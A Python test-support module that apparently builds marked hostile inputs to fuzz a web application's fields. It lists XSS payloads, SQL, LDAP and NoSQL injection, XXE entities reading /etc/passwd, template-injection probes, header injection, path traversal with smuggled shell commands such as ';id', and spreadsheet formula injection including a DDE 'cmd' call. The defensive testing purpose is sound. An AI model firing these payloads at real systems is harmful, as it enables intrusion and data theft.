"""What nobody types by mistake: input that is meant to be something else than text.

Every payload carries a marker of its own in the place where it would do harm: as the name of an
attribute, in a script, behind a header's line end, beside what a template would have calculated.
So whatever came alive says by itself which payload it was.
"""

from __future__ import annotations

import os
import random
import re
import string
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

# Letters alone: they stay as they are in names, in searches and in addresses.
PREFIX = "qzv"
MARKER = re.compile(PREFIX + "[a-z]{4}")
PLACE = "§"
# What a template makes of its payload: a number that stands in no page otherwise.
PRODUCT = "48313819"
SEED = 20261121


@dataclass(frozen=True)
class Payload:
    """One text, and how it is known again. Bytes that are no UTF-8 are surrogates in it."""

    kind: str
    text: str
    marker: str = ""

    @property
    def bytes(self) -> bytes:
        """As it is sent."""
        return self.text.encode("utf-8", "surrogateescape")

    @property
    def is_text(self) -> bool:
        """Whether it can be written into a file of UTF-8."""
        return not any("\ud800" <= one <= "\udfff" for one in self.text)


ELEMENTS = [
    "<script>alert('§')</script>", "<ScRiPt>alert('§')</sCrIpT >", "<img src=x onerror=alert('§')>",
    "<img src=x:§ onerror=alert(1)>", "<svg onload=alert('§')>", "<svg/onload=alert`§`>",
    "<b id=§>", "<b onclick=§>b</b>", "<i §=1>", "<x-§>", "<iframe srcdoc='§'>",
    "<iframe src=//§.invalid></iframe>", "<object data='//§.invalid'></object>",
    "<embed src=//§.invalid>", "<base href=//§.invalid/>", "<link rel=stylesheet href=//§.invalid>",
    "<meta http-equiv=refresh content='0;url=//§.invalid'>", "<body onload=alert('§')>",
    "<details open ontoggle=alert('§')>", "<input autofocus onfocus=alert('§')>",
    "<video><source onerror=alert('§')></video>", "<audio src=x onerror=alert('§')>",
    "<marquee onstart=alert('§')>", "<form action=//§.invalid><button>Go</button></form>",
    "<button form=x formaction=//§.invalid>", "<math><a xlink:href='javascript:alert(`§`)'>x",
    "<svg><script>alert('§')</script></svg>", "<svg><a href='javascript:alert(`§`)'><text>x",
    "<template><script>§</script></template>", "<noscript><p title='</noscript><img §>'>",
    "<!--§--><img src=x onerror=alert('§')>", "<!-- § ", "<![CDATA[<img src=x onerror='§'>]]>",
    "<?§ ?>", "<!DOCTYPE § [", "<a href=//§.invalid>a</a>", "<table background='//§.invalid'>",
    "<p/§=1/onmouseover=alert(1)>", "<<script>alert('§')//<</script>", "<img/src='x'/onerror=§>",
    "<style>@import'//§.invalid';</style>", "<textarea><b id=§>", "<select><option id=§>",
    "<img src=x onerror=&#97;lert('§')>", "<scr<script>ipt>alert('§')</scr</script>ipt>",
    "&lt;script&gt;alert('§')&lt;/script&gt;", "&amp;lt;b id=§&amp;gt;", "&#60;img §&#62;",
    "<a id=§ name=body>", "<form id=§><input name=action>", "<dialog open id=§>",
    "<p popover id=§>",
]  # fmt: skip
ATTRIBUTES = [
    '"><script>alert("§")</script>', "'><script>alert('§')</script>", '" onfocus="§" autofocus="',
    "' onmouseover='§' x='", '" §="', "' §='", "` onerror=§ `", '"/><svg onload=§>',
    "x onclick=§ y",
    '"accesskey="x"onclick="§"', '" style="background:url(//§.invalid)', "\"\tonfocus\n=\n'§'",
    '"></option></select><img §>', '"></textarea><img §>', "</title><img §>", "</label><b id=§>",
    "--><img §>", '\\"><img §>', "&quot;><img §>", "&#34; onfocus=§ ", '">§<"', "'>§<'",
    "</td></tr></table><img §>", "</main></body></html><b id=§>", '" name="csrf" value="§',
    '" formaction="//§.invalid', "\"><base href='//§.invalid'>",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert('§')", "JaVaScRiPt:alert('§')", " javascript:alert('§')",
    "java\tscript:alert('§')", "javascript&colon;alert('§')", "data:text/html,<script>§</script>",
    "data:text/html;base64,PHNjcmlwdD4§", "vbscript:msgbox('§')", "//§.invalid/",
    "\\\\§.invalid\\x",
    "https://§.invalid/", "/\\§.invalid", "https:§.invalid", "http://127.0.0.1@§.invalid/",
    "?next=//§.invalid", "#§<img src=x>", "view-source:§", "blob:§",
]  # fmt: skip
STYLES = [
    "red;background:url(//§.invalid)", "}</style><img §>", "expression(alert('§'))",
    "@import '//§.invalid';", "x{}*{background:url('//§.invalid')}", "\\3c img §\\3e",
]  # fmt: skip
SCRIPTS = [
    "</script><script>alert('§')</script>", "';alert('§');//", '";alert("§");//',
    "\\';alert('§')//",
    "</ScRiPt ><img §>", '"}],"§":[{"', '","student":"§', "\u2028alert('§')\u2029",
    "${alert('§')}", "`;alert('§');`", "<!--<script>§", "]]>§", "\\u003cimg §\\u003e",
    "%3Cscript%3Ealert('§')%3C/script%3E", "%253Cimg%2520§%253E", "+ADw-script+AD4-alert('§')",
    "__proto__§", "constructor.constructor('§')()", '{"__proto__":{"§":1}}', "*/alert('§')/*",
]  # fmt: skip
TEMPLATES = [
    "§{{7919*6101}}", "§${7919*6101}", "§#{7919*6101}", "§<%= 7919*6101 %>",
    "§{%print(7919*6101)%}",
    "§@(7919*6101)", "§*{7919*6101}", "§~{7919*6101}", "§[[${7919*6101}]]", "§{{=7919*6101}}",
    "§$(expr 7919 \\* 6101)", "§`expr 7919 \\* 6101`", "§\\(7919*6101)", "§{7919*6101}",
    "§<#=7919*6101>",
    "§{{constructor.constructor('alert(1)')()}}", "§{{range.constructor}}", "§%{7919*6101}",
    "§#set($x=7919*6101)$x", "§{php}echo 7919*6101;{/php}", "§<?= 7919*6101 ?>", "§%d%s%n%x",
    "§%(name)s",
    "§$USER", "§\\(csrf)", "§{student}", "§{{csrf}}",
]  # fmt: skip
HEADERS = [
    "§\r\nSet-Cookie: §=1", "§\r\n\r\n<script>alert('§')</script>", "§\nX-§: 1", "§\rX-§: 1",
    "%0d%0aX-§:%201", "%0aSet-Cookie:§=1", "%E5%98%8A%E5%98%8DX-§: 1", "§\u560a\u560dX-§: 1",
    "\r\nLocation: //§.invalid", "§\u0085X-§: 1", '§"; filename="§.html', "§; Secure; §=1",
    "§\n2026-11-22T00:00:00Z error §", "§\x1b[31m§\x1b[0m", "§\x1b]0;§\x07", "§\x08\x08§",
    "§\x7f\x9b",
    "§,§;q=0.5", "§\r\n.\r\nMAIL FROM:<§@x>",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd§", "..\\..\\windows\\§.ini", "%2e%2e%2f%2e%2e%2f§", "....//....//§",
    "/dev/null/§", "§\x00.txt", "§%00.pdf", "file:///§", "~/.ssh/§", "CON§", "§|ls", "§;id",
    "§&&id", "-§",
    "--help §", "§*?[]", ".§", "§. . .",
]  # fmt: skip
QUERIES = [
    "§' OR '1'='1", "§'; DROP TABLE student;--", '§" OR ""="', "§') UNION SELECT 1,2--", "§%", "§_",
    "§\\",
    "§'||(SELECT 1)||'", "1;§", "§/**/OR/**/1=1", "§ESCAPE'\\'", "$$§$$", "§::text", "?§", ":§",
    "@§", "§*)(uid=*))(|(uid=*",
    "§)(&)", "§\\2a", "<!DOCTYPE x [<!ENTITY § SYSTEM 'file:///etc/passwd'>]>&§;",
    "<!ENTITY % § SYSTEM 'http://§.invalid'>", "§]]></x><x>", "&§;", "§{$ne:1}", "§[$gt]=",
    "' or count(/*)>0 or '§'='", "§ AND NEAR(a b)", 'text:"§" *', "§^2", "^§", "{§}:x",
]  # fmt: skip
FORMULAS = [
    "=1+1+N(\"§\")", "+1+1&\"§\"", "-1+1&\"§\"", "@SUM(1,1)&\"§\"", "=cmd|'/C calc §'!A0",
    "\t=1+1&\"§\"",
    "\r=1+1&\"§\"", "\n=1+1&\"§\"", "＝1+1&\"§\"", "＋1+1§", "－1§", "＠SUM(§)", " =1+1&\"§\"",
    "\u00a0=1+1&\"§\"",
    "=HYPERLINK(\"http://§.invalid\",\"§\")", "=IMPORTXML(\"http://§.invalid\",\"//a\")",
    "=WEBSERVICE(\"http://§.invalid\")", "=DDE(\"soffice\",\"§\",\"x\")", "=MSEXCEL|'\\..\\§'!''",
    "§;=1+1", "§;=HYPERLINK(\"http://§.invalid\")", "§\t=1+1", "§,=1+1", "§|=1+1", "§\";=1+1;\"",
    "§\",=1+1,\"",
    "§\n=1+1", "§\r\n=1+1", "§\r=1+1", "'=1+1§", "''=1+1§", "\"=1+1§", "\"=\"\"§\"\"\"", "=\"§\"",
    "{=1+1§}", "\ufeff=1+1&\"§\"",
    "\u200b=1+1&\"§\"", "%=1+1§", "=§!A1", "='file:///etc/passwd'#§.A1",
]  # fmt: skip
DIRECTIONS = [
    "\u202e§", "§\u202etxt.exe", "\u202d§", "\u202a§", "\u202b§", "\u2066§", "\u2067§", "\u2068§",
    "§\u2069\u2069\u2069",
    "§\u202c\u202c\u202c", "\u2067\u202e§", "\u200f§\u200f", "\u200e§", "\u061c§",
    "§ \u05d0\u05d1\u05d2 \u0627\u0628",
    "\u202e<img §>",
]  # fmt: skip
INVISIBLE = [
    "§\u200b\u200c\u200d", "\ufeff§", "§\u2060\u2061", "§\u00ad\u00ad", "§\u034f",
    "§\u115f\u1160\u3164", "§\u180e", "§\u2800",
    "§\U000e0041\U000e0042\U000e007f", "§\ufe0f\ufe0e", "§\ufff9a\ufffab\ufffb",
    "§\u00a0\u2003\u3000", "§\ue000\uf8ff",
    "§\ufdd0\ufffe\uffff", "\u2028§\u2029",
]  # fmt: skip
LOOKALIKES = [
    "Мarisоl§", "Ꭺlder§", "ⅿoira§", "𝒯amsin§", "ｆｕｌｌ§", "Ιvo§", "İı§ſß", "ﬀ§ﬁ", "Å§Å", "§О’Бriаn",
    "1lI|§0O", "＜img §＞",
    "‹b id=§›", "＂ onfocus=§ ＂", "′onfocus=§′",
]  # fmt: skip
BROKEN = [
    "§\udcff\udcfe", "§\udcc0\udcbc", "§\udced\udca0\udcbd", "§\udcf4\udc90\udc80\udc80",
    "§\udce2\udc82", "\udc80§",
    "§\udcc0\udc80", "\\ud83d§", "&#xD83D;§", "%ED%A0%BD§", "§\udce2<b", "§\udcef\udcbf\udcbe",
    "§\udcf8\udc88\udc80\udc80\udc80",
    "§\udcbf\udcbf",
]  # fmt: skip
LONG = [
    "§" + "a" * 300, "§" + "a" * 5_000, "§ " + "word " * 2_000, "<b id=§>" * 400,
    "§" + "\u0301" * 200, "§" + "\u0301" * 20_000,
    "Z̷̢̧͈͙͇̺̅͛̽͠§", "§" + "👩‍👩‍👧‍👦" * 60, "§" + "🇦" * 99, "§" + "👍🏿" * 40, "§" + "ﷺ" * 90,
    "§" + "\u0bb8\u0bcd" * 90,
    "§" + "&" * 900, "§" + "\n" * 900, "§" + "((((" * 300,
]  # fmt: skip
NAMES = [
    "O'Bri§en", "D'§Arcy-O'Hara", "Null §", "True§", "Ng§", "Sean §, Jr.", "van der §", "Nguyễn§",
    "Łukasz§", "Þórunn§",
    "José§ María", "María-José§", "§ Robert'); --", "山田§", "محمد§", "§ (Bo)", "§\u2019s", "N/A §",
    "§ & Sons", "§ <none>",
    "#§", "0§", "§@example.invalid", "§/§", "X Æ §-12",
]  # fmt: skip

KINDS: dict[str, list[str]] = {
    "element": ELEMENTS, "attribute": ATTRIBUTES, "address": ADDRESSES, "style": STYLES,
    "script": SCRIPTS, "template": TEMPLATES, "header": HEADERS, "path": PATHS,
    "query": QUERIES, "formula": FORMULAS, "direction": DIRECTIONS, "invisible": INVISIBLE,
    "lookalike": LOOKALIKES, "broken": BROKEN, "long": LONG, "name": NAMES,
}  # fmt: skip


def markers() -> Iterator[str]:
    """One after the other."""
    letters = string.ascii_lowercase
    for number in range(len(letters) ** 4):
        yield PREFIX + "".join(letters[number // len(letters) ** place % len(letters)]
                               for place in (3, 2, 1, 0))  # fmt: skip


def all_payloads() -> list[Payload]:
    """Each with its marker, and the naughty strings, which are hostile by being what they are."""
    fresh = markers()
    found = []
    for kind, texts in KINDS.items():
        for text in texts:
            marker = next(fresh)
            found.append(Payload(kind, text.replace(PLACE, marker), marker))
    return found + [Payload("naughty", text) for text in naughty_strings()]


def naughty_strings() -> list[str]:
    """Our own list: one a line, as Python writes characters that cannot be seen."""
    text = (Path(__file__).parent / "naughty_strings.txt").read_text(encoding="utf-8")
    lines = [line for line in text.split("\n") if line and not line.startswith("# ")]
    escape = re.compile(r"\\u\{([0-9A-F]+)\}")
    return [escape.sub(lambda found: chr(int(found[1], 16)), line) for line in lines]


PAYLOADS = all_payloads()
BY_KIND = {
    kind: [one for one in PAYLOADS if one.kind == kind] for kind in (*KINDS, "naughty", "")
}
SHORT = [one for one in PAYLOADS if one.marker and one.is_text and len(one.text) <= 60]
MARKUP = ["element", "attribute", "script"]
BY_MARKER = {one.marker: one for one in PAYLOADS if one.marker}
# Everything through everything takes long; ./script/hostile does it, one part of the payloads after
# the other, each through every field of a district of its own.
IS_ALL = os.environ.get("HOSTILE", "").startswith("all")
# Of how much is looked at beside that: in parts, each part looks at some.
PART, PARTS = map(int, (os.environ.get("HOSTILE", "").partition(":")[2] or "1/1").split("/"))
IS_WHOLE = IS_ALL and PARTS == 1


def sample(place: str, count: int) -> list[Payload]:
    """Some for a place, the same in each run; all of the part where everything is to be tried."""
    if IS_ALL:
        return PAYLOADS[PART - 1 :: PARTS]
    chance = random.Random(f"{SEED} {place}")
    # Markup everywhere; of the others one kind after the other, from where chance begins, so that
    # a few places have had all kinds.
    kinds = [one for one in (*KINDS, "naughty") if one not in MARKUP]
    first = chance.randrange(len(kinds))
    order = [chance.choice(MARKUP)]
    order += [kinds[(first + step) % len(kinds)] for step in range(count - 1)]
    return [chance.choice(BY_KIND[kind]) for kind in order]


def short(place: str, kind: str | None = None) -> Payload:
    """One that most fields have room for."""
    fitting = [one for one in SHORT if one.kind == kind] if kind else SHORT
    return random.Random(f"{SEED} {place}").choice(fitting)


def percent(payload: Payload) -> str:
    """For an address."""
    return "".join(f"%{byte:02X}" for byte in payload.bytes[:2_000]) or "%20"
